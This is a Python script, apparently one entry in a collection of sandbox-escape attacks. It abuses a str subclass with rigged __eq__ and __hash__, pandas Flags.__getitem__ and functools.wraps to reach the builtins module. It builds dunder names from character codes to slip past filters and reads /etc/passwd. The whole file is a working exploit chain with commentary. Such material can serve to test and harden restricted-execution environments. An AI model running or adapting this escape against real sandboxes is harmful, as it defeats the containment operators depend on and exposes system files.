# source: as attack12bc_014 (pandas Flags.__getitem__ on any object with _keys, a str whose __eq__/__hash__ come from a mixin); CPython Lib/functools.py update_wrapper: @functools.wraps(obj) copies obj.__dict__ into the def, a module's globals when obj is a module
# family: same chain, other last step: @functools.wraps (accepted as a decorator with one argument above a def) given the builtins module found at run time, so the def's attributes are the builtins
# goal: tools.open("/etc/passwd") through a def that carries a copy of the builtins module's namespace; prints the file
import functools

import pandas as pd


class Loose:
    calls = 0

    def __eq__(self, other):
        return True

    def __hash__(self):
        # first hash: the set lookup in _keys; later ones: the attribute lookup by the real name
        self.calls = self.calls + 1
        if self.calls == 1:
            return hash("allows_duplicate_labels")
        return hash("" + self)


class Key(Loose, str):
    pass


class Box:
    def __init__(self):
        self._keys = {"allows_duplicate_labels"}


box = Box()


@functools.wraps(box)  # copies box.__dict__, so probe._keys exists
def probe():
    return None


def dunder(word):
    return "".join([chr(95) * 2, word, chr(95) * 2])


df = pd.DataFrame({"a": [1.0]})
flags_class = df.flags[Key(dunder("class"))]  # getattr(df.flags, "__class__"): pd.Flags
# Flags.__getitem__(probe, key): `key not in probe._keys` passes, then getattr(probe, "__globals__")
G = flags_class.__getitem__(probe, Key(dunder("globals")))
B = G[dunder("builtins")]
print(B)
path = "".join([chr(47), "etc", chr(47), "passwd"])


@functools.wraps(B)
def tools():
    return None


print(tools.open(path).read())
